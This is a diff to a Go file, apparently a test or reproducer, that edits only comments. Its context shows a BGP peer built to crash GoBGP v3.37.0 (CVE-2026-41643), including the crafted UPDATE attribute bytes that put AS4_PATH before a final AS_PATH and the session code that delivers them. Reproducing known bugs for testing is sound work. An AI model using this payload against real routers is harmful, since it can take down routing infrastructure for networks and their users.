@@ -11,9 +11,9 @@ import (
 	"slices"
 )
 
-// Crash is a peer that ends GoBGP v3.37.0 with one UPDATE (CVE-2026-41643): AS4_PATH comes before AS_PATH, which is the last. GoBGP takes the first
-// out of the list of attributes, and then writes to where the second was (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go; mended in
-// v4.3.0).
+// Crash is a peer that crashes GoBGP v3.37.0 with one UPDATE (CVE-2026-41643): AS4_PATH precedes AS_PATH, which is the
+// last attribute. GoBGP removes AS4_PATH from the list of attributes, and then writes to the former index of AS_PATH
+// (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go; fixed in v4.3.0).
 type Crash struct{ options, attributes []byte }
 
 // crashASN is the AS of a Crash.
@@ -26,13 +26,14 @@ var (
 	as4Path = []byte{0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xea} // 65002
 )
 
-// Crashes are a peer without 4-octet AS numbers and one with.
+// Crashes are a peer without 4-octet AS numbers and a peer with them.
 var Crashes = []Crash{
 	{nil, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 4, 2, 1, 0xfd, 0xea})},
 	{[]byte{2, 6, 65, 4, 0, 0, 0xfd, 0xea}, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 6, 2, 1, 0, 0, 0xfd, 0xea})},
 }
 
-// Take has the next session that comes to l, as a peer of AS 65002 and router id 203.0.113.200. It returns when the other side is gone.
+// Take accepts the next session on l, as a peer of AS 65002 and router id 203.0.113.200. It returns when the other side
+// has closed it.
 func (c Crash) Take(l net.Listener) error {
 	conn, err := l.Accept()
 	if err != nil {
@@ -42,14 +43,14 @@ func (c Crash) Take(l net.Listener) error {
 	open := binary.BigEndian.AppendUint16([]byte{4}, crashASN)
 	open = append(binary.BigEndian.AppendUint16(open, 90), crashID.AsSlice()...)
 	open = append(append(open, byte(len(c.options))), c.options...)
-	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(c.attributes))) // nothing is withdrawn
+	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(c.attributes))) // no withdrawn routes
 	update = append(append(update, c.attributes...), 24, 192, 0, 2)
 	err = errors.Join(writeMessage(conn, 1, open), writeMessage(conn, 4, nil), skipMessage(conn), skipMessage(conn), // its OPEN and KEEPALIVE: the session is up
 		writeMessage(conn, 2, update))
 	if err != nil {
 		return err
 	}
-	_, _ = io.Copy(io.Discard, conn) // however it ends
+	_, _ = io.Copy(io.Discard, conn) // in any way it ends
 	return nil
 }
 
